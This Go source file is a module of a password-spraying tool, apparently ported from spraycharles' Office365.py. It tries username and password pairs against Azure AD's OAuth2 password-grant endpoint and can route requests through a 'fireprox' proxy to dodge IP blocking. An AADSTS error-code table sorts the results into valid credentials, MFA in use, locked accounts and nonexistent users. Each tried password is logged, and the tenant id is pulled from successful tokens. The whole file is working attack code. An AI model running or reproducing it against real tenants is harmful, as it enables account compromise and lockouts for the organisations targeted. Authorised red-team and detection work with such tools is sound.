package target

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	jwt "github.com/golang-jwt/jwt/v4"
	"golang.org/x/oauth2"

	"github.com/crlsmrls/lowandslow/internal/attemptlog"
)

// o365.go is the OAuth2 ROPC adapter (module "o365") against Azure
// AD's v1 token endpoint, grounded in
// original_source/spraycharles/targets/Office365.py. Uses
// golang.org/x/oauth2's PasswordCredentialsToken for the grant (the
// oauth2.HTTPClient context key injects a client carrying the
// configured timeout; EndpointParams carries the resource/client_info
// extra POST fields Office365.py sends) and golang-jwt's
// Parser.ParseUnverified — the same idiom the teacher's
// cmd/request/request.go uses to decode a bearer token's claims
// without verifying its signature — to recover the tenant id for a
// richer success message.

// o365ClientID is Office365.py's hard-coded public client id for the
// legacy Azure AD Graph API resource.
const o365ClientID = "1b730954-1685-4b74-9bfd-dac224a7b894"

// o365Entry is one row of o365ErrorTable.
type o365Entry struct {
	Result  string
	Message string
}

// o365ErrorTable turns Office365.py's print_response if/elif chain
// into data, resolving spec.md §4.1's note that "the O365 adapter's
// error-code table is data, not code". Credit for the code meanings
// belongs to dafthack's MSOLSpray research, carried over from the
// original's own comment.
var o365ErrorTable = map[string]o365Entry{
	"AADSTS50126": {"Fail", ""},
	"AADSTS50076": {"Success", "Microsoft MFA in use"},
	"AADSTS50079": {"Success", "Microsoft MFA must be onboarded"},
	"AADSTS50158": {"Success", "Non-Microsoft MFA in use"},
	"AADSTS50055": {"Success", "User's password is expired"},
	"AADSTS50034": {"Fail", "Invalid username"},
	"AADSTS50128": {"Fail", "Tenant account does not exist"},
	"AADSTS50059": {"Fail", "Tenant account does not exist"},
	"AADSTS50053": {"Fail", "Account appears locked"},
	"AADSTS50057": {"Fail", "Account appears disabled"},
}

type o365Target struct {
	oauthCfg oauth2.Config
	client   *http.Client
}

func newO365Target() Adapter {
	return &o365Target{}
}

func (t *o365Target) Initialize(_ context.Context, cfg Config) error {
	tokenURL := "https://login.microsoft.com/common/oauth2/token"
	if cfg.Fireprox != "" {
		tokenURL = fmt.Sprintf("https://%s/fireprox/common/oauth2/token", cfg.Fireprox)
	}

	t.oauthCfg = oauth2.Config{
		ClientID: o365ClientID,
		Endpoint: oauth2.Endpoint{TokenURL: tokenURL},
		Scopes:   []string{"openid"},
		EndpointParams: url.Values{
			"resource":    {"https://graph.windows.net"},
			"client_info": {"1"},
		},
	}
	t.client = &http.Client{Timeout: secondsToDuration(cfg.Timeout)}
	return nil
}

func (t *o365Target) Login(ctx context.Context, username, password string) (Response, error) {
	ctx = context.WithValue(ctx, oauth2.HTTPClient, t.client)

	token, err := t.oauthCfg.PasswordCredentialsToken(ctx, username, password)
	if err != nil {
		if isTimeoutErr(err) {
			return Response{Username: username, Password: password, Timeout: true}, ErrTimeout
		}
		return classifyO365Error(username, password, err), nil
	}

	message := "Valid login; no MFA"
	if tenant := tenantFromToken(token); tenant != "" {
		message = fmt.Sprintf("%s (tenant %s)", message, tenant)
	}
	return Response{
		Username:   username,
		Password:   password,
		StatusCode: http.StatusOK,
		Result:     "Success",
		Message:    message,
	}, nil
}

// classifyO365Error maps a failed token request to the Office365.py
// Result/Message pair its AADSTS error code implies, falling back to
// "Unknown error code returned" exactly as the original does for any
// code not in the table.
func classifyO365Error(username, password string, err error) Response {
	resp := Response{
		Username: username,
		Password: password,
		Result:   "Fail",
		Message:  "Unknown error code returned",
	}

	var rerr *oauth2.RetrieveError
	if !errors.As(err, &rerr) {
		return resp
	}
	if rerr.Response != nil {
		resp.StatusCode = rerr.Response.StatusCode
	}
	resp.BodyLength = len(rerr.Body)

	if entry, ok := o365ErrorTable[extractAADSTSCode(rerr.Body)]; ok {
		resp.Result = entry.Result
		resp.Message = entry.Message
	}
	return resp
}

// extractAADSTSCode pulls the leading AADSTSxxxxx code out of a token
// endpoint's error_description, the same string.split(":")[0] idiom
// Office365.py uses.
func extractAADSTSCode(body []byte) string {
	var payload struct {
		ErrorDescription string `json:"error_description"`
	}
	if err := json.Unmarshal(body, &payload); err != nil {
		return ""
	}
	code, _, _ := strings.Cut(payload.ErrorDescription, ":")
	return code
}

// tenantFromToken decodes the access token's claims, unverified, to
// recover the "tid" (tenant id) claim for a richer success message.
// Office365.py has no equivalent (it never inspects the token body on
// success), but the decoding idiom itself is the teacher's own
// cmd/request/request.go pattern, applied here instead of discarded.
func tenantFromToken(token *oauth2.Token) string {
	if token == nil || token.AccessToken == "" {
		return ""
	}
	parsed, _, err := new(jwt.Parser).ParseUnverified(token.AccessToken, jwt.MapClaims{})
	if err != nil {
		return ""
	}
	claims, ok := parsed.Claims.(jwt.MapClaims)
	if !ok {
		return ""
	}
	tid, _ := claims["tid"].(string)
	return tid
}

func (t *o365Target) LogAttempt(w io.Writer, resp Response) error {
	return attemptlog.WriteLine(w, attemptlog.Record{
		Timestamp:      attemptlog.NewTimestamp(time.Now()),
		Module:         "o365",
		Username:       resp.Username,
		Password:       resp.Password,
		Result:         resp.Result,
		Message:        resp.Message,
		ResponseCode:   resp.ResponseCode(),
		ResponseLength: resp.ResponseLength(),
	})
}

func (t *o365Target) PrintResponse(w io.Writer, resp Response) {
	fmt.Fprintf(w, "%-13s %-30s %-35s %-17s %13v %15v\n",
		resp.Result, resp.Message, resp.Username, resp.Password, resp.ResponseCode(), resp.ResponseLength())
}

func (t *o365Target) PrintHeaders(w io.Writer) {
	fmt.Fprintf(w, "%-13s %-30s %-35s %-17s %-13s %-15s\n",
		"Result", "Message", "Username", "Password", "Response Code", "Response Length")
	fmt.Fprintln(w, strings.Repeat("-", 128))
}
